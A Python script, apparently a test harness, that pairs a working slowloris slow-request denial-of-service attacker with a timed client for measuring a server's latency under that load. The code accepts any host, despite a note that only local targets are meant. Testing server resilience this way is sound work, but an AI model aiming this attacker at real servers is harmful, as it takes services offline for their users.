#!/usr/bin/env python3
"""slowloris.py - a bounded slow-request attacker and a timed normal client.

  slowloris.py attack HOST PORT --conns N --seconds S [--interval I] [--state FILE]
      Keep N connections open on HOST:PORT, each sending a request head one
      byte every I seconds (default 1) and never finishing it; a connection
      the server closes is opened again I seconds later, as slowloris tools
      do on their next round.  Stops after S seconds and closes
      everything.  --state FILE is rewritten every second with JSON
      {"open": n, "opened": n, "closed_by_server": n, "max_open": n}.
  slowloris.py client HOST PORT PATH --requests N [--timeout T]
      N GETs of PATH, one at a time, alternately on a new connection and on
      a kept-alive one.  Prints JSON {"ok", "failed", "p50_ms", "p99_ms",
      "max_ms", "errors"}: ok counts 200 answers within T seconds (default 5).

Only 127.0.0.1-style targets are meant; the attacker raises its own
RLIMIT_NOFILE soft limit to the hard one and says so if N does not fit.
Standard library only (asyncio).
"""
import asyncio
import http.client
import json
import os
import resource
import sys
import time


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        soft = hard
    if soft < want:
        sys.exit("slowloris.py: RLIMIT_NOFILE %d < %d connections" % (soft, want))


class Attack:
    def __init__(self, host, port, conns, seconds, interval, state):
        self.host, self.port = host, port
        self.conns, self.seconds, self.interval = conns, seconds, interval
        self.state = state
        self.open = self.opened = self.closed_by_server = self.max_open = 0
        self.stop = False

    async def one(self, k):
        # Spread the connects so the listen backlog never overflows.
        await asyncio.sleep((k % 250) * 0.004 + (k // 250) * 0.05)
        head = (b"GET /slow/%d HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n" % k
                + b"X-Slow: " + b"a" * 100000)
        while not self.stop:
            try:
                r, w = await asyncio.open_connection(self.host, self.port)
            except OSError:
                await asyncio.sleep(0.2)
                continue
            self.opened += 1
            self.open += 1
            self.max_open = max(self.max_open, self.open)
            try:
                pos = 0
                while not self.stop:
                    w.write(head[pos:pos + 1])
                    pos += 1
                    await w.drain()
                    try:
                        # the server closing shows as EOF or a reset
                        data = await asyncio.wait_for(r.read(4096), self.interval)
                        if not data:
                            self.closed_by_server += 1
                            break
                    except asyncio.TimeoutError:
                        pass
            except (ConnectionError, OSError):
                self.closed_by_server += 1
            finally:
                self.open -= 1
                w.close()
            await asyncio.sleep(self.interval)

    async def report(self):
        while not self.stop:
            if self.state:
                tmp = self.state + ".tmp"
                with open(tmp, "w") as f:
                    json.dump({"open": self.open, "opened": self.opened,
                               "closed_by_server": self.closed_by_server,
                               "max_open": self.max_open}, f)
                os.replace(tmp, self.state)
            await asyncio.sleep(1)

    async def run(self):
        tasks = [asyncio.ensure_future(self.one(k)) for k in range(self.conns)]
        rep = asyncio.ensure_future(self.report())
        await asyncio.sleep(self.seconds)
        self.stop = True
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        rep.cancel()
        print(json.dumps({"opened": self.opened, "closed_by_server": self.closed_by_server,
                          "max_open": self.max_open}))


def client(host, port, path, n, timeout):
    times, errors = [], []
    ok = 0
    keep = None
    for i in range(n):
        t0 = time.monotonic()
        try:
            if i % 2 == 0:
                c = http.client.HTTPConnection(host, port, timeout=timeout)
            else:
                if keep is None:
                    keep = http.client.HTTPConnection(host, port, timeout=timeout)
                c = keep
            c.request("GET", path)
            resp = c.getresponse()
            resp.read()
            if resp.status == 200:
                ok += 1
            else:
                errors.append("status %d" % resp.status)
            if c is not keep:
                c.close()
        except Exception as e:  # noqa: BLE001 - every failure counts
            errors.append(type(e).__name__ + ": " + str(e))
            if c is keep:
                keep.close()
                keep = None
        times.append((time.monotonic() - t0) * 1000)
    times.sort()

    def pct(p):
        return round(times[min(len(times) - 1, int(len(times) * p))], 2) if times else None

    print(json.dumps({"ok": ok, "failed": n - ok, "p50_ms": pct(0.5), "p99_ms": pct(0.99),
                      "max_ms": round(times[-1], 2) if times else None, "errors": errors[:5]}))


def main():
    a = sys.argv[1:]
    opts = {}
    pos = []
    i = 0
    while i < len(a):
        if a[i].startswith("--"):
            opts[a[i][2:]] = a[i + 1]
            i += 2
        else:
            pos.append(a[i])
            i += 1
    if pos[0] == "attack":
        conns = int(opts["conns"])
        raise_nofile(conns + 64)
        at = Attack(pos[1], int(pos[2]), conns, float(opts["seconds"]),
                    float(opts.get("interval", "1")), opts.get("state"))
        asyncio.run(at.run())
    elif pos[0] == "client":
        client(pos[1], int(pos[2]), pos[3], int(opts["requests"]), float(opts.get("timeout", "5")))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
